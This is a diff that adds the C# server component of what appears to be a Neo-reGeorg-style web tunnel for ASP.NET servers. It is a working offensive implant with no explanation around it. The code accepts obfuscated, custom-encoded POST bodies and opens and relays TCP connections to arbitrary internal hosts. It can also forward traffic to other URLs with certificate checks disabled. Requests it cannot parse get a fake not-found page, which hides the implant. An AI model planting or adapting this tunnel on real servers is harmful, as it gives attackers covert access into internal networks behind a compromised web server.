@@ -0,0 +1,330 @@
+const string NEO_CHARS = "NEOREG_CHARS";
+const string NEO_STD = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+const int NEO_OFFSET = NEOREG_OFFSET;
+const int NEO_MAX_READ = NEOREG_MAXREAD;
+const string NEO_PREFIX = "NEOREG_PREFIX";
+const string NEO_SUFFIX = "NEOREG_SUFFIX";
+
+static string NeoTranslate(string s, string from, string to)
+{
+    char[] table = new char[128];
+    for (int i = 0; i < from.Length; i++)
+    {
+        table[from[i]] = to[i];
+    }
+    char[] r = s.ToCharArray();
+    for (int i = 0; i < r.Length; i++)
+    {
+        if (r[i] < 128 && table[r[i]] != 0)
+        {
+            r[i] = table[r[i]];
+        }
+    }
+    return new string(r);
+}
+
+static string NeoEncode(byte[] data)
+{
+    return NeoTranslate(Convert.ToBase64String(data), NEO_STD, NEO_CHARS);
+}
+
+static byte[] NeoDecode(string s)
+{
+    return Convert.FromBase64String(NeoTranslate(s.Trim(), NEO_CHARS, NEO_STD));
+}
+
+static Encoding NeoLatin1
+{
+    get { return Encoding.GetEncoding("iso-8859-1"); }
+}
+
+static string NeoUnwrap(string s)
+{
+    string prefix = NeoLatin1.GetString(NeoDecode(NEO_PREFIX));
+    string suffix = NeoLatin1.GetString(NeoDecode(NEO_SUFFIX));
+    s = s.Trim();
+    if (prefix.Length > 0 && s.StartsWith(prefix, StringComparison.Ordinal))
+    {
+        s = s.Substring(prefix.Length);
+    }
+    if (suffix.Length > 0 && s.EndsWith(suffix, StringComparison.Ordinal))
+    {
+        s = s.Substring(0, s.Length - suffix.Length);
+    }
+    return s;
+}
+
+static byte[] NeoWrap(string s)
+{
+    return NeoLatin1.GetBytes(NeoLatin1.GetString(NeoDecode(NEO_PREFIX)) + s + NeoLatin1.GetString(NeoDecode(NEO_SUFFIX)));
+}
+
+static byte[] NeoPad(Random random)
+{
+    byte[] pad = new byte[random.Next(5, 21)];
+    random.NextBytes(pad);
+    return pad;
+}
+
+static Dictionary<int, byte[]> BlvDecode(byte[] data)
+{
+    Dictionary<int, byte[]> info = new Dictionary<int, byte[]>();
+    int i = 0;
+    while (i + 5 <= data.Length)
+    {
+        int b = data[i];
+        int l = unchecked(((data[i + 1] << 24) | (data[i + 2] << 16) | (data[i + 3] << 8) | data[i + 4]) - NEO_OFFSET);
+        i += 5;
+        if (l < 0 || l > data.Length - i)
+        {
+            return null;
+        }
+        byte[] v = new byte[l];
+        Array.Copy(data, i, v, 0, l);
+        i += l;
+        info[b] = v;
+    }
+    return info;
+}
+
+static byte[] BlvEncode(Dictionary<int, byte[]> info)
+{
+    Random random = new Random();
+    info[0] = NeoPad(random);
+    info[39] = NeoPad(random);
+    List<int> keys = new List<int>(info.Keys);
+    keys.Sort();
+    MemoryStream ms = new MemoryStream();
+    foreach (int b in keys)
+    {
+        byte[] v = info[b];
+        int l = unchecked(v.Length + NEO_OFFSET);
+        ms.WriteByte((byte)b);
+        ms.WriteByte((byte)(l >> 24));
+        ms.WriteByte((byte)(l >> 16));
+        ms.WriteByte((byte)(l >> 8));
+        ms.WriteByte((byte)l);
+        ms.Write(v, 0, v.Length);
+    }
+    return ms.ToArray();
+}
+
+static Dictionary<int, byte[]> NeoStatus(string status, string err)
+{
+    Dictionary<int, byte[]> info = new Dictionary<int, byte[]>();
+    info[4] = Encoding.ASCII.GetBytes(status);
+    if (err != null)
+    {
+        info[5] = Encoding.UTF8.GetBytes(err);
+    }
+    return info;
+}
+
+static byte[] NeoReadAll(Stream s)
+{
+    MemoryStream ms = new MemoryStream();
+    byte[] buf = new byte[8192];
+    int n;
+    while ((n = s.Read(buf, 0, buf.Length)) > 0)
+    {
+        ms.Write(buf, 0, n);
+    }
+    return ms.ToArray();
+}
+
+static void NeoNotFound(HttpResponse Response)
+{
+    Response.StatusCode = NEOREG_CODE;
+    Response.BinaryWrite(NeoDecode("NEOREG_PAGE"));
+}
+
+static void NeoTunnel(HttpContext context)
+{
+    HttpRequest Request = context.Request;
+    HttpResponse Response = context.Response;
+    HttpApplicationState Application = context.Application;
+    Response.ContentType = "text/html";
+
+    Dictionary<int, byte[]> info = null;
+    try
+    {
+        info = BlvDecode(NeoDecode(NeoUnwrap(NeoLatin1.GetString(NeoReadAll(Request.InputStream)))));
+    }
+    catch
+    {
+    }
+    if (info == null || !info.ContainsKey(2))
+    {
+        NeoNotFound(Response);
+        return;
+    }
+    string cmd = Encoding.ASCII.GetString(info[2]);
+    string mark = "neoreg_" + (info.ContainsKey(3) ? Encoding.ASCII.GetString(info[3]) : "");
+
+    if (info.ContainsKey(8) && info[8].Length > 0)
+    {
+        string url = Encoding.UTF8.GetString(info[8]);
+        info.Remove(8);
+        info.Remove(9);
+        try
+        {
+            ServicePointManager.ServerCertificateValidationCallback = delegate { return true; };
+            HttpWebRequest req = (HttpWebRequest)WebRequest.Create(url);
+            req.Method = Request.HttpMethod == "GET" ? "POST" : Request.HttpMethod;
+            req.ContentType = string.IsNullOrEmpty(Request.ContentType) ? "application/octet-stream" : Request.ContentType;
+            req.Timeout = 30000;
+            byte[] body = NeoWrap(NeoEncode(BlvEncode(info)));
+            Stream rs = req.GetRequestStream();
+            rs.Write(body, 0, body.Length);
+            rs.Close();
+            HttpWebResponse resp;
+            try
+            {
+                resp = (HttpWebResponse)req.GetResponse();
+            }
+            catch (WebException e)
+            {
+                resp = e.Response as HttpWebResponse;
+                if (resp == null)
+                {
+                    throw;
+                }
+            }
+            Response.StatusCode = (int)resp.StatusCode;
+            Response.BinaryWrite(NeoReadAll(resp.GetResponseStream()));
+            resp.Close();
+        }
+        catch (Exception e)
+        {
+            Response.BinaryWrite(NeoWrap(NeoEncode(BlvEncode(NeoStatus("FAIL", "redirect failed: " + e.Message)))));
+        }
+        return;
+    }
+
+    Dictionary<int, byte[]> reply;
+    if (cmd == "CONNECT")
+    {
+        try
+        {
+            string host = Encoding.ASCII.GetString(info[6]);
+            int port = int.Parse(Encoding.ASCII.GetString(info[7]));
+            IPAddress[] addrs = Dns.GetHostAddresses(host);
+            IPAddress addr = addrs[0];
+            foreach (IPAddress a in addrs)
+            {
+                if (a.AddressFamily == AddressFamily.InterNetwork)
+                {
+                    addr = a;
+                    break;
+                }
+            }
+            Socket s = new Socket(addr.AddressFamily, SocketType.Stream, ProtocolType.Tcp);
+            IAsyncResult ar = s.BeginConnect(new IPEndPoint(addr, port), null, null);
+            if (!ar.AsyncWaitHandle.WaitOne(5000, false))
+            {
+                s.Close();
+                throw new Exception("connect timeout");
+            }
+            s.EndConnect(ar);
+            Socket old = Application[mark] as Socket;
+            if (old != null)
+            {
+                old.Close();
+            }
+            Application[mark] = s;
+            reply = NeoStatus("OK", null);
+        }
+        catch (Exception e)
+        {
+            reply = NeoStatus("FAIL", e.Message);
+        }
+    }
+    else if (cmd == "FORWARD")
+    {
+        Socket s = Application[mark] as Socket;
+        if (s == null)
+        {
+            reply = NeoStatus("FAIL", "session not found");
+        }
+        else
+        {
+            try
+            {
+                byte[] data = info.ContainsKey(1) ? info[1] : new byte[0];
+                lock (s)
+                {
+                    int sent = 0;
+                    while (sent < data.Length)
+                    {
+                        sent += s.Send(data, sent, data.Length - sent, SocketFlags.None);
+                    }
+                }
+                reply = NeoStatus("OK", null);
+            }
+            catch (Exception e)
+            {
+                Application.Remove(mark);
+                s.Close();
+                reply = NeoStatus("FAIL", e.Message);
+            }
+        }
+    }
+    else if (cmd == "READ")
+    {
+        Socket s = Application[mark] as Socket;
+        if (s == null)
+        {
+            reply = NeoStatus("FAIL", "session not found");
+        }
+        else
+        {
+            try
+            {
+                lock (s)
+                {
+                    reply = NeoStatus("OK", null);
+                    if (s.Poll(10000, SelectMode.SelectRead))
+                    {
+                        int available = s.Available;
+                        if (available == 0)
+                        {
+                            Application.Remove(mark);
+                            s.Close();
+                            reply = NeoStatus("FAIL", null);
+                        }
+                        else
+                        {
+                            byte[] buf = new byte[Math.Min(available, NEO_MAX_READ)];
+                            int n = s.Receive(buf);
+                            byte[] data = new byte[n];
+                            Array.Copy(buf, data, n);
+                            reply[1] = data;
+                        }
+                    }
+                }
+            }
+            catch (Exception e)
+            {
+                Application.Remove(mark);
+                s.Close();
+                reply = NeoStatus("FAIL", e.Message);
+            }
+        }
+    }
+    else if (cmd == "DISCONNECT")
+    {
+        Socket s = Application[mark] as Socket;
+        Application.Remove(mark);
+        if (s != null)
+        {
+            s.Close();
+        }
+        reply = NeoStatus("OK", null);
+    }
+    else
+    {
+        NeoNotFound(Response);
+        return;
+    }
+    Response.BinaryWrite(NeoWrap(NeoEncode(BlvEncode(reply))));
+}